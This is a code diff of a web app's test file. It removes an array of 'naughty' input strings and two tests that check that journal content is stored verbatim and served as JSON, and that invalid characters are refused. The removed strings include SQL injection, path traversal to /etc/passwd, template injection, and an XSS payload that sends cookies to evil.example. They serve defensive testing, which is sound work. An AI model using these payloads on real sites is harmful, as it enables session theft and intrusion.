@@ -1,4 +1,3 @@
-import { randomUUID } from "node:crypto";
 import { sealData } from "iron-session";
 import { db } from "@/lib/server/core/database/db";
 import { env } from "@/lib/server/core/env";
@@ -80,53 +79,6 @@ it.each([
 	const row = await db().user.findUniqueOrThrow({ where: { id: user.id } });
 	expect([row.isAdmin, row.id, row.email]).toEqual([false, user.id, user.email]);
 	expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
-});
-
-const naughty = [
-	"undefined",
-	"null",
-	"'; DROP TABLE users; --",
-	"1e309",
-	"%00",
-	"../../../../etc/passwd",
-	"${7*7} {{7*7}} <%= 7*7 %>",
-	"<script>alert(1)</script>",
-	'<img src=x onerror="fetch(`//evil.example/`+document.cookie)">',
-	"![](https://evil.example/canary.png)",
-	"[x](javascript:alert(1))",
-	"\u202eevil\u202c",
-	"e\u0301 é",
-	"👩‍👩‍👧‍👦 🏳️‍🌈",
-	"田中さんにあげて下さい",
-	"בְּרֵאשִׁית مرحبا",
-	"\ufeffbegins with a mark",
-	"tab\tand\r\nlines\u2028",
-	"-".repeat(5_000),
-];
-
-it("what people write comes back as they wrote it, however odd, as JSON that no browser takes for a page", async () => {
-	const { browser, user } = await signUp();
-	for (const content of naughty) {
-		const response = await browser.post(
-			"/api/journal",
-			{ content, prompt: content.slice(0, 200), action: "submit" },
-			{ "idempotency-key": randomUUID(), "x-timezone-offset": "0" },
-		);
-		expect([content.slice(0, 40), response.status]).toEqual([content.slice(0, 40), 200]);
-		expect(response.headers.get("content-type")).toMatch(/^application\/json/);
-	}
-	const kept = await db().journalEntry.findMany({ where: { userId: user.id }, select: { content: true } });
-	expect(kept.map(({ content }) => content).sort()).toEqual([...naughty].sort());
-});
-
-it.each(["a\u0000b", "a\ud800b", "\udc00"])("%j is refused in words, in every text", async (text) => {
-	const { browser } = await signUp();
-	const raw = JSON.stringify({ firstName: text });
-	const response = await browser.fetch("POST", "/api/update-profile", {
-		raw,
-		headers: { "content-type": "application/json" },
-	});
-	expect([response.status, await response.text()]).toEqual([400, expect.stringContaining("cannot be saved")]);
 });
 
 it("everything at once by one person: nothing breaks, and each answer is one that is meant", async () => {
